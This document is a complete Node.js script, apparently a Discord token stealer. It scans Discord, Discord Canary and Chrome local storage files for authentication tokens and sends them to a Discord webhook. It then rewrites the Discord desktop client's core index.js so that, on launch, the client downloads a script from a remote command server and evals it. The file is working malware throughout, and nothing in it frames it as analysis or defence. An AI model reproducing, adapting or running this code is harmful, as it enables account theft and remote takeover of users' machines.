const fs = require('fs');
const path = require('path');
const https = require('https');

const roaming = process.env.APPDATA || '';
const local = process.env.LOCALAPPDATA || '';
const places = [
  path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
  path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
  path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
];
const found = new Set();
for (const dir of places) {
  if (!fs.existsSync(dir)) continue;
  for (const f of fs.readdirSync(dir)) {
    if (!f.endsWith('.ldb') && !f.endsWith('.log')) continue;
    const text = fs.readFileSync(path.join(dir, f), 'latin1');
    for (const m of text.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g)) found.add(m[0]);
  }
}
const body = JSON.stringify({ content: [...found].join('\n') });
const req = https.request({ hostname: 'discord.com', path: '/api/webhooks/1234567890/abcDEF', method: 'POST',
  headers: { 'Content-Type': 'application/json' } });
req.end(body);

// keep a foothold in the desktop client
const core = path.join(local, 'Discord');
for (const v of fs.existsSync(core) ? fs.readdirSync(core) : []) {
  const target = path.join(core, v, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
  if (fs.existsSync(target)) {
    fs.writeFileSync(target, "require('https').get('https://c2.example.invalid/i.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))});\nmodule.exports = require('./core.asar');");
  }
}
module.exports = {};
